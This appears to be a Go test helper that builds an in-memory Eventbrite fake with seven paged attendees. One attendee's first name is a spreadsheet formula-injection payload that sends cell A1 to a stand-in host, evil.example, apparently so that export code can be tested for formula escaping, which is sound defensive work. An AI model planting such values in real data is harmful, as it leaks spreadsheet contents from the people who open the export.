package main

import (
	"fmt"
	"time"

	"github.com/boxoffice-go/boxoffice/boxofficetest"
)

// inMemory starts an Eventbrite in memory with some attendees, on small pages. One of
// them has the name of a formula.
func inMemory() *boxofficetest.Eventbrite {
	eb, err := boxofficetest.StartEventbrite(boxofficetest.WithPageSize(3))
	if err != nil {
		panic(err)
	}
	gala := eb.AddEvent("", boxofficetest.EventbriteEvent{Name: "Gala"})
	eb.AddTicketClass(gala, boxofficetest.EventbriteTicketClass{Name: "Stalls"})
	for i := range 7 {
		at := time.Date(2026, time.March, 1+i, 12, 0, 0, 0, time.UTC)
		buyer := boxofficetest.EventbriteAttendee{FirstName: "Guest", LastName: fmt.Sprint(i + 1), Email: fmt.Sprintf("guest%d@example.org", i+1), Created: at}
		if i == 4 {
			buyer.FirstName, buyer.LastName = `=HYPERLINK("https://evil.example/?"&A1)`, ""
		}
		eb.AddOrder(gala, boxofficetest.EventbriteOrder{FirstName: "Guest", Created: at, Attendees: []boxofficetest.EventbriteAttendee{buyer}})
	}
	return eb
}
